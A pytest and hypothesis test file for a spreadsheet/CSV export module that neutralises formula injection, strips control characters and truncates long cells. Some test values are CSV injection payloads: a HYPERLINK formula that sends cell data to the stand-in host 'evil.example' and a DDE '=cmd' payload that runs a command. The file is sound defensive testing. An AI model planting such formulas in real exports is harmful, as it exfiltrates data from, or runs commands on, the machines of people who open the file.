"""The one export module's rules for cells and CSV (issue 10, item 1): pure, no Django."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from decimal import Decimal

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kbridge.engine.tabular import (
    MAX_CELL_UNITS,
    cell,
    clean_text,
    csv_lines,
    csv_text,
    neutralise,
    write_csv,
)

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'


@pytest.mark.parametrize(("text", "expected"), [
    (HYPERLINK, "'" + HYPERLINK),
    ("+82 10-1234-5678", "'+82 10-1234-5678"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("  =1+1", "'  =1+1"),            # leading white space does not hide a formula
    ("\u3000=1+1", "'\u3000=1+1"),    # nor does an ideographic space
    ("\t=1", "'\t=1"),                # OWASP: leading TAB ...
    ("\rabc", "'\nabc"),              # ... and CR (which becomes LF, as in XLSX)
    ("\uff1d1+1", "'\uff1d1+1"),      # full-width = + - @
    ("\uff0b1", "'\uff0b1"),
    ("\uff0d1", "'\uff0d1"),
    ("\uff20SUM(A1)", "'\uff20SUM(A1)"),
    ("-1", "-1"),                     # a plain number is not a formula
    ("+3.5", "+3.5"),
    ("-1,000", "-1,000"),
    ("a=b", "a=b"),
    ("R&D 랩스", "R&D 랩스"),
    ("'=already", "'=already"),       # idempotent
    ("", ""),
])
def test_neutralise(text, expected):
    assert neutralise(text) == expected


@pytest.mark.parametrize(("text", "expected"), [
    ("뉴로\x0b칩스\x00", "뉴로칩스"),        # control characters openpyxl refuses
    ("a\x08b\x1fc\x7fd", "abc\x7fd"),       # DEL is legal in XML, kept
    ("x\ufffey\uffff", "xy"),               # XML non-characters
    ("x\ud800y", "x\ufffdy"),               # a lone surrogate
    ("\ud83d\ude00", "\U0001F600"),         # a surrogate pair is one emoji
    ("a\r\nb\rc\nd\te", "a\nb\nc\nd\te"),
])
def test_clean_text(text, expected):
    assert clean_text(text) == expected


def test_text_longer_than_a_cell_is_cut_to_fit():
    assert clean_text("x" * MAX_CELL_UNITS) == "x" * MAX_CELL_UNITS
    cut = clean_text("가" * 40_000)
    assert len(cut) == MAX_CELL_UNITS and cut.endswith("…")
    emoji = clean_text("\U0001F600" * 20_000)  # two UTF-16 units each
    assert len(emoji.encode("utf-16-le")) // 2 <= MAX_CELL_UNITS
    prefixed = neutralise("=" * 40_000)
    assert prefixed.startswith("'=") and len(prefixed) == MAX_CELL_UNITS


def test_numbers_stay_numbers_and_other_values_become_text():
    assert cell(-1) == -1 and isinstance(cell(-1), int)
    assert cell(-1500.25) == -1500.25
    assert cell(Decimal("-3.50")) == Decimal("-3.50")
    assert cell(True) is True
    assert cell(None) == ""
    assert cell(float("nan")) == "nan" and cell(float("-inf")) == "'-inf"
    assert cell(Decimal("-Infinity")) == "'-Infinity"
    assert cell(date(2026, 6, 10)) == date(2026, 6, 10)
    assert cell(datetime(2026, 6, 10, 9, 30)) == datetime(2026, 6, 10, 9, 30)
    assert cell(datetime.fromisoformat("2026-06-10T09:30:00+09:00")) == "2026-06-10T09:30:00+09:00"

    class Name:
        def __str__(self):
            return "=cmd|' /C calc'!A0"

    assert cell(Name()) == "'=cmd|' /C calc'!A0"


def test_csv_is_utf8_with_bom_crlf_text_quoted_numbers_not():
    text = csv_text([["id", "amount", "name", "on"], [7, -1500, HYPERLINK, date(2026, 6, 10)],
                     [8, Decimal("2.50"), "뉴로칩스", datetime(2026, 6, 10, 9, 0)]])
    assert text == (
        '\ufeff"id","amount","name","on"\r\n'
        f'7,-1500,"\'{HYPERLINK.replace(chr(34), chr(34) * 2)}","2026-06-10"\r\n'
        '8,2.50,"뉴로칩스","2026-06-10 09:00:00"\r\n')
    assert csv_text([]) == "\ufeff"


def test_csv_lines_are_lazy():
    taken = []

    def rows():
        for n in range(3):
            taken.append(n)
            yield [n]

    lines = csv_lines(rows())
    assert next(lines) == "\ufeff0\r\n" and taken == [0]
    assert list(lines) == ["1\r\n", "2\r\n"]


def test_write_csv_keeps_crlf(tmp_path):
    path = tmp_path / "out.csv"
    write_csv(path, [["a\nb", 1]])
    assert path.read_bytes() == b'\xef\xbb\xbf"a\nb",1\r\n'


# --- Properties over arbitrary text ------------------------------------------------------------

TRIGGERS = "=+-@\uff1d\uff0b\uff0d\uff20"
# Any code point, surrogates included, with formula starts and unholdable characters likely.
ANY_TEXT = st.text(st.one_of(
    st.sampled_from([*TRIGGERS, " ", "\t", "\r", "\n", "\u3000", "\x00", "\x0b", "\ufffe",
                     "\ud800", "\udc00", "'", '"', ",", ";", "1", "가"]),
    st.characters(exclude_categories=()),
), max_size=40)


def holdable(text: str) -> str:
    """What of ``text`` a workbook can show, written apart from the module: surrogates joined
    or replaced, CR LF and CR as LF, C0 controls but TAB and LF dropped, U+FFFE/U+FFFF dropped."""
    joined = text.encode("utf-16-le", "surrogatepass").decode("utf-16-le", "replace")
    out = []
    previous_cr = False
    for ch in joined:
        if ch == "\n" and previous_cr:
            previous_cr = False
            continue
        previous_cr = ch == "\r"
        if ch == "\r":
            out.append("\n")
        elif ch in "\t\n" or not (ord(ch) < 0x20 or ch in "\ufffe\uffff"):
            out.append(ch)
    return "".join(out)


def starts_like_formula(text: str) -> bool:
    """OWASP's first characters (TAB, CR, LF, = + - @), also after white space, and the
    full-width forms."""
    return text[:1] in ("\t", "\r", "\n") or text.lstrip()[:1] in tuple(TRIGGERS)


def harmless_number(text: str) -> bool:
    """A signed decimal such as ``-1`` or ``+1,000.5``: a spreadsheet reads it as a number."""
    body = text.strip()
    return (len(body) > 1 and body[0] in "+-" and set(body[1:]) <= set("0123456789.,")
            and any(c.isdigit() for c in body) and _parses(body.replace(",", "")))


def _parses(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@settings(max_examples=300, deadline=None)
@given(ANY_TEXT)
def test_any_text_becomes_a_cell_that_is_never_a_formula(text):
    out = neutralise(text)
    out.encode("utf-8")  # never a lone surrogate
    visible = holdable(text)
    assert out in (visible, "'" + visible)
    if out == visible:  # left as it is: not a formula, or a plain number
        assert not starts_like_formula(out) or harmless_number(out)
    else:  # prefixed: only what would start a formula
        assert starts_like_formula(visible)


@settings(max_examples=200, deadline=None)
@given(st.lists(st.one_of(ANY_TEXT, st.integers(), st.floats(allow_nan=False,
                                                            allow_infinity=False)),
                min_size=1, max_size=6))
def test_any_row_round_trips_through_csv(row):
    text = csv_text([row])
    assert text.startswith("\ufeff") and text.endswith("\r\n")
    (read,) = list(csv.reader(io.StringIO(text[1:], newline="")))
    assert read == [repr(v) if isinstance(v, float) else str(v) if isinstance(v, int)
                    else neutralise(v) for v in row]
